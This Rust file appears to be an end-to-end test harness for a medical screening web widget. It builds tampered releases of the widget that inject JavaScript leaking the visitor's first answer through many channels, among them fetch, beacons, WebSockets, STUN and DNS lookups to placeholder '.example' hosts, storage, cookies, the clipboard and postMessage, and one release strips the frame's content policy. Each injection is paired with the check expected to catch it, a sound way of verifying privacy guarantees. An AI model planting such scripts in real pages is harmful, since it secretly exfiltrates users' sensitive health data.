//! Releases that betray the visitor.

use std::fs;
use std::path::Path;

use anyhow::{Context, Result, ensure};

/// A way to send the visitor's first choice away.
pub struct Betrayal {
    /// The file that is spoilt.
    file: &'static str,
    /// What is put in place of what.
    change: (&'static str, &'static str),
    /// Run at the first choice, with `id`, the choice.
    script: &'static str,
    /// Under which promise what must be named.
    pub seen: &'static [(&'static str, &'static str)],
}

const REQUEST: &str = "nothing is requested or sent";
const SURFACE: &str = "title, name, attributes";

/// What is requested of some host.
pub const SENT: Betrayal = Betrayal {
    file: "screener.js",
    change: ("", ""),
    script: "
        fetch('/leak-fetch?' + id);
        navigator.sendBeacon('/leak-beacon?' + id);
        addEventListener('pagehide', () => navigator.sendBeacon('/leak-leaving?' + id));
        const request = new XMLHttpRequest(); request.open('GET', '/leak-xhr?' + id); request.send();
        new Image().src = '/leak-image?' + id;
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { background: url(${location.origin}/leak-css?${id}) }`);
        document.adoptedStyleSheets = [sheet];
        new FontFace('leak', `url(/leak-font?${id})`).load().catch(() => {});
        document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/leak-prefetch?' + id }));
        document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//leak-${id}.example` }));
        new WebSocket(location.origin.replace('http', 'ws') + '/leak-socket?' + id);
        new EventSource('/leak-events?' + id);
        new WebTransport('https://127.0.0.1:9/leak-transport?' + id).ready.catch(() => {});
        new RTCPeerConnection({ iceServers: [{ urls: `stun:leak-peer-${id}.example` }] });
        new Worker(URL.createObjectURL(new Blob([''])));
        navigator.serviceWorker.register('/screener-frame.js?' + id).catch(() => {});",
    seen: &[
        (REQUEST, "/leak-fetch?"),
        (REQUEST, "/leak-beacon?"),
        (REQUEST, "/leak-leaving?"),
        (REQUEST, "/leak-xhr?"),
        (REQUEST, "/leak-image?"),
        (REQUEST, "/leak-css?"),
        (REQUEST, "/leak-font?"),
        (REQUEST, "/leak-prefetch?"),
        ("no other host", ".example"),
        ("no web socket", "/leak-socket?"),
        ("no web socket", "/leak-events?"),
        ("no web socket", "/leak-transport?"),
        ("no web socket", "stun:leak-peer-"),
        ("no worker is started", "new Worker"),
        ("no worker is started", "register"),
    ],
};

/// What stays in the browser, for others to find.
pub const STAYING: Betrayal = Betrayal {
    file: "screener.js",
    change: ("", ""),
    script: "
        localStorage.setItem('leak-local', id);
        sessionStorage['leak-session'] = id;
        indexedDB.open('leak-database-' + id);
        caches.open('leak-cache-' + id);
        document.cookie = 'leak-cookie=' + id;
        history.replaceState({ leak: id }, '');
        location.hash = 'leak-hash-' + id;
        document.title = 'leak-title-' + id;
        window.name = 'leak-name-' + id;
        document.querySelector('microneedling-screener').setAttribute('data-leak', id);
        document.documentElement.classList.add('leak-class-' + id);
        postMessage('leak-message-' + id, '*');
        new BroadcastChannel('leak').postMessage('leak-channel-' + id);
        document.dispatchEvent(new CustomEvent('leak-event', { detail: id }));
        console.debug('leak-console-' + id);
        performance.mark('leak-mark-' + id);
        navigator.clipboard.writeText('leak-clipboard-' + id).catch(() => {});
        Object.assign(document.createElement('a'), { href: 'data:,' + id, download: 'leak-download-' + id }).click();
        document.querySelector('#host-button').focus();",
    seen: &[
        ("nothing is stored", "leak-local"),
        ("nothing is stored", "leak-session"),
        ("nothing is stored", "leak-database"),
        ("nothing is stored", "leak-cache"),
        ("no cookie is set", "leak-cookie"),
        ("address, history and tabs", "replaceState"),
        ("address, history and tabs", "leak-hash"),
        (SURFACE, "leak-title"),
        (SURFACE, "leak-name"),
        (SURFACE, "data-leak"),
        (SURFACE, "leak-class"),
        ("no message, channel or event", "leak-message"),
        ("no message, channel or event", "new BroadcastChannel"),
        ("no message, channel or event", "leak-event"),
        ("nothing is written to the console", "leak-console"),
        ("performance timeline", "leak-mark"),
        ("the clipboard", "leak-clipboard"),
        ("nothing is saved", "leak-download"),
        ("the focus never", "host-button"),
    ],
};

/// What leads the whole page elsewhere, so that nobody is there any more to ask.
pub const ELSEWHERE: Betrayal = Betrayal {
    file: "screener.js",
    change: ("", ""),
    script: "
        const form = Object.assign(document.createElement('form'), { action: '/leak-form', method: 'post' });
        form.append(Object.assign(document.createElement('input'), { name: 'id', value: id }));
        document.body.append(form);
        form.submit();",
    seen: &[
        (REQUEST, "/leak-form"),
        ("address, history and tabs", "/leak-form"),
        ("every walk reaches its result", "Did not reach"),
    ],
};

/// What a frame without its policy could do, and does.
pub const FRAMED: Betrayal = Betrayal {
    file: "frame.html",
    change: ("http-equiv=\"Content-Security-Policy\"", "name=\"policy\""),
    script: "
        fetch(location.href.split('frame.html')[0] + 'leak-fetch?' + id, { mode: 'no-cors' });
        parent.postMessage('leak-message-' + id, '*');
        parent.postMessage([1, 1, 8, 640 + id.length], '*');
        const { shadowRoot } = document.querySelector('microneedling-screener');
        shadowRoot.addEventListener('change', ({ target }) => parent.postMessage('leak-later-' + target.value, '*'));",
    seen: &[
        (REQUEST, "/leak-fetch?"),
        ("no message, channel or event", "leak-message"),
        ("in steps of 64 pixels", "a height of"),
        ("no way out by fetch", "It got through"),
        ("no way out by an image", "It got through"),
        ("the page sees the same", "pairs"),
    ],
};

/// Copies the built files and spoils them.
///
/// # Errors
///
/// When they are no longer as they were, so that they can't be spoilt so.
pub fn release(dist: &Path, betrayals: &[&Betrayal]) -> Result<()> {
    copy(&e2e::dist()?, dist)?;
    betrayals.iter().try_for_each(|betrayal| betrayal.spoil(dist))
}

impl Betrayal {
    fn spoil(&self, dist: &Path) -> Result<()> {
        let file = dist.join(self.file);
        let text = fs::read_to_string(&file)?;
        let (from, to) = self.change;
        ensure!(text.contains(from), "{} holds no {from}", self.file);
        let text = text.replacen(from, to, 1);
        let script = format!("{{ {LISTEN}{{ {} }};\nlisten(); }}\n", self.script);
        let spoilt = match self.file.rsplit_once('.') {
            Some((_, "html")) => {
                let (before, after) = text.rsplit_once("</body>").context("a page without an end")?;
                format!("{before}<script>{script}</script></body>{after}")
            }
            _ => format!("{text}\n{script}"),
        };
        Ok(fs::write(file, spoilt)?)
    }
}

/// Hears the first choice inside the widget, as any script beside it can.
const LISTEN: &str = "
    const listen = () => {
        const root = document.querySelector('microneedling-screener')?.shadowRoot;
        if (!root) return setTimeout(listen, 5);
        root.addEventListener('change', ({ target }) => leak(target.value), { once: true });
    };
    const leak = (id) => ";

fn copy(from: &Path, to: &Path) -> Result<()> {
    fs::create_dir_all(to)?;
    for entry in fs::read_dir(from)? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            copy(&entry.path(), &target)?;
        } else {
            fs::copy(entry.path(), target)?;
        }
    }
    Ok(())
}
